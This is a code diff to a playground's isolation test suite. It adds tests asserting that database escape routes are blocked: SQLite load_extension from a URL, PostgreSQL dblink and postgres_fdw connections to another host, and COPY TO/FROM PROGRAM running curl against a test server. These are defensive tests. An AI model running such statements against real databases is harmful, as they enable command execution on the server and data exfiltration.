@@ -14,7 +14,7 @@ import { codeLink, ENGINES, expectNextRunWorks, expectStopNotice, SEQUELIZE_ARGS
 import { useBrowser } from './support/page-probe.ts';
 import { startPreviewServer } from './support/preview-server.ts';
 import type { DevServer } from './support/dev-server.ts';
-import { RUN_TIMEOUT, openPanel, root, runs, status, waitForRuns } from './support/playground.ts';
+import { RUN_TIMEOUT, openPanel, root, runs, status, waitForRuns, waitIdle } from './support/playground.ts';
 
 const browser = useBrowser();
 let preview: DevServer;
@@ -35,6 +35,8 @@ beforeAll(async () => {
 }, 90_000);
 
 afterAll(async () => {
+  // Also for the test expected to fail below: whatever went wrong in it, nothing reached this server.
+  expect(hits).toEqual([]);
   await preview?.close();
   await new Promise((resolve) => target?.close(resolve));
 });
@@ -87,6 +89,59 @@ await attempt("nested Worker", () => new Promise((resolve, reject) => { const w 
 await attempt("blob: module that imports a URL", () => { const url = URL.createObjectURL(new Blob(['export { default } from "${other}/blob-import.js"'], { type: "text/javascript" })); return import(url) })
 `;
 
+/**
+ * The database's own ways out, asked through the reader's connection: each statement must fail
+ * (logged BLOCKED with the database's error). SQLite: loading a native extension. PostgreSQL:
+ * the extensions that connect to other servers, and COPY to or from a program.
+ */
+const DATABASE_ATTEMPTS: Readonly<Record<EngineId, (other: URL) => Record<string, string>>> = {
+  sqlite: (other) => ({
+    load_extension: `SELECT load_extension('${other.href}extension')`,
+  }),
+  postgres: (other) => ({
+    dblink: `CREATE EXTENSION dblink; SELECT dblink_connect('host=${other.hostname} port=${other.port} dbname=x')`,
+    postgres_fdw: `CREATE EXTENSION postgres_fdw; CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '${other.hostname}', port '${other.port}')`,
+  }),
+};
+
+/** PostgreSQL's COPY to or from a program: kept apart, see the test that runs it. */
+const COPY_PROGRAM = (other: URL): Record<string, string> => ({
+  'COPY TO PROGRAM': `COPY (SELECT 1) TO PROGRAM 'curl ${other.href}copy-to'`,
+  'COPY FROM PROGRAM': `CREATE TABLE got (line text); COPY got FROM PROGRAM 'curl ${other.href}copy-from'`,
+});
+
+const DATABASE_ATTEMPT_CODE = (engine: EngineId, statements: Record<string, string>) => `
+import { Sequelize } from "sequelize"
+const sequelize = new Sequelize(${SEQUELIZE_ARGS[engine]})
+for (const [name, sql] of Object.entries(${JSON.stringify(statements)})) {
+  try {
+    const value = await Promise.race([sequelize.query(sql), new Promise((_, reject) => setTimeout(() => reject(new Error("no answer in 3 s")), 3000))])
+    console.log("REACHED", name, JSON.stringify(value).slice(0, 80))
+  } catch (error) {
+    console.log("BLOCKED", name, (error as Error)?.message ?? String(error))
+  }
+}
+console.log("DONE")
+`;
+
+/** Runs SQL statements through the reader's Sequelize connection on `engine`; the console's lines, the status and the requests out once the page is idle. */
+async function runDatabaseAttempts(
+  engine: EngineId,
+  statements: Record<string, string>,
+): Promise<{ lines: string[]; runStatus: string | null; requests: string[] }> {
+  const probe = await browser.openPage(linkWith(DATABASE_ATTEMPT_CODE(engine, statements), engine), { waitUntil: 'load' });
+  await expect.poll(() => root(probe.page).getAttribute('data-busy'), { timeout: RUN_TIMEOUT }).toBe('true');
+  await waitIdle(probe.page);
+  expect(await root(probe.page).getAttribute('data-engine')).toBe(engine);
+  const consolePanel = await openPanel(probe.page, 'Console');
+  const lines = await consolePanel.locator('.pg-log[data-level="log"]').allTextContents();
+  const runStatus = await status(probe.page);
+  console.log(`the database's ways out on ${engine}: "${runStatus}"\n${lines.join('\n')}`);
+  const requests = requestsOut(probe.requests);
+  await probe.close();
+  return { lines, runStatus, requests };
+}
+
 describe.each(ENGINES)('isolation on %s, on `npm run preview`', (engine) => {
   it('blocks the DOM, storage, cookies and every request, even from eval; nothing reaches a server', async () => {
     const probe = await browser.openPage(linkWith(ATTEMPTS(preview.url, targetUrl), engine), {
@@ -112,6 +167,31 @@ describe.each(ENGINES)('isolation on %s, on `npm run preview`', (engine) => {
     expect(await probe.page.evaluate(() => document.cookie)).toBe('site=secret');
     expect(await probe.page.evaluate(() => localStorage.getItem('adapter-lab:playground') ?? '')).toContain('fetch same origin');
     await probe.close();
+  });
+
+  it("the database's own ways out (extensions) fail too; nothing reaches a server", async () => {
+    const statements = DATABASE_ATTEMPTS[engine](new URL(`${targetUrl}/`));
+    const { lines, runStatus, requests } = await runDatabaseAttempts(engine, statements);
+    expect(runStatus).toMatch(/^Ran in /);
+    expect(lines.at(-1)).toMatch(/^DONE/);
+    expect(lines.slice(0, -1).map((line) => line.split(' ')[0])).toEqual(Object.keys(statements).map(() => 'BLOCKED'));
+    expect(hits).toEqual([]);
+    expect(requests).toEqual([]);
+  });
+
+  // Expected to fail (reported, not hidden): through the pg Client over PGlite (PglitePgConnection),
+  // COPY … TO/FROM PROGRAM never answers — the connection hangs, later queries wait behind it, and
+  // the worker is then stopped as "stopped responding (an endless loop?)". Reproduced in Node with
+  // @electric-sql/pglite 0.6.1 + pg, outside the playground; PGlite's own exec() returns at once.
+  // Nothing reaches a server meanwhile (asserted here before the failing part, and in afterAll).
+  it.runIf(engine === 'postgres').fails('COPY to or from a program fails with an error, and the run ends normally; nothing reaches a server', async () => {
+    const statements = COPY_PROGRAM(new URL(`${targetUrl}/`));
+    const { lines, runStatus, requests } = await runDatabaseAttempts(engine, statements);
+    expect(hits).toEqual([]);
+    expect(requests).toEqual([]);
+    expect(lines.slice(0, -1).map((line) => line.split(' ')[0])).toEqual(Object.keys(statements).map(() => 'BLOCKED'));
+    expect(lines.filter((line) => line.includes('no answer'))).toEqual([]);
+    expect(runStatus).toMatch(/^Ran in /);
   });
 
   it("an Auth.js sign-in runs whole inside the worker: the provider is simulated there, and no request leaves, not even from the reader's callbacks", async () => {
